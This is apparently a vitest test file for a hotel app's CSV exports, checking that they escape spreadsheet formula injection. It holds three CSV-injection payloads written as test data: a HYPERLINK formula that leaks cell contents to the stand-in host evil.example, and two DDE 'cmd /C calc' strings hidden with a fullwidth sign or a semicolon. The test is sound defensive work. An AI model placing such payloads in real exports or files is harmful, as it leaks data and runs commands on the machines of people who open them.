import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src-shared/csv';
import { testDatabases } from '../test/test-db';
import { api, seedHotel, useTestApp } from '../test/test-app';
import { seedCrew, seedRoom } from '../test/seed-rooms';

/** Text a guest or a colleague typed, as an attacker would type it (issue 28, OWASP CSV injection). */
const HOSTILE = ['＝HYPERLINK("http://evil.example/?leak="&A1,"Click")', 'towels;=cmd|" /C calc"!A0', '＠SUM(1+1)*cmd|"/C calc"!A0'];
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** Every cell of a CSV as a spreadsheet with this separator reads it. */
function cells(csv: string, separator: ',' | ';'): string[] {
  const read = parseCsv(csv.replace(/^\uFEFF/, ''), separator);
  if (!read.ok) throw new Error(`unreadable CSV: ${csv}`);
  return read.records.flatMap((r) => r.fields);
}

/** Issue 28 (4): the exports write what people typed as text, whichever separator the spreadsheet splits on. */
describe.each(testDatabases())('CSV exports and spreadsheet formulas on %s', (kind) => {
  const t = useTestApp(kind);

  it('the work-order, guest-request and lost-and-found CSVs keep fullwidth and ;-hidden formulas as text', async () => {
    const hotel = await seedHotel(t.db);
    const c = await seedCrew(t.app, t.db, hotel.id);
    const room = await seedRoom(t.db, hotel.id, '301', { status: 'assigned', assigned_to: c.housekeeper.id });
    const as = { cookie: c.frontdesk.cookie };
    for (const text of HOSTILE) {
      expect((await api(t.app, 'POST', '/api/work-orders', { ...as, body: { roomId: room.roomId, category: 'other', note: text } })).statusCode).toBe(200);
      expect((await api(t.app, 'POST', `/api/hotels/${hotel.id}/guest-requests`, { ...as, body: { roomId: room.roomId, kind: 'extra_cleaning', note: text } })).statusCode).toBe(200);
      expect((await api(t.app, 'POST', `/api/hotels/${hotel.id}/lost-items`, { ...as, body: { roomId: room.roomId, description: text } })).statusCode).toBe(200);
    }
    const exports = [`/api/work-orders/hotel/${hotel.id}?format=csv`, `/api/hotels/${hotel.id}/guest-requests?format=csv`, `/api/hotels/${hotel.id}/lost-items?format=csv`];
    for (const url of exports) {
      const res = await api(t.app, 'GET', url, { cookie: c.manager.cookie });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.csv"$/);
      // Read as written (','): each typed text is one cell, kept as text by its apostrophe.
      const written = cells(res.body, ',');
      for (const text of HOSTILE) {
        const cell = FORMULA_START.test(text) ? `'${text}` : text.replace(';=', ";'=");
        expect(written.filter((c) => c === cell), `${url}: ${text}`).toHaveLength(1);
      }
      // Read as a Spanish or German Excel reads a .csv (';'): no cell it makes starts a formula.
      for (const separator of [',', ';'] as const) {
        expect(cells(res.body, separator).filter((c) => FORMULA_START.test(c)), `${url} split on ${separator}`).toEqual([]);
      }
    }
  });
});
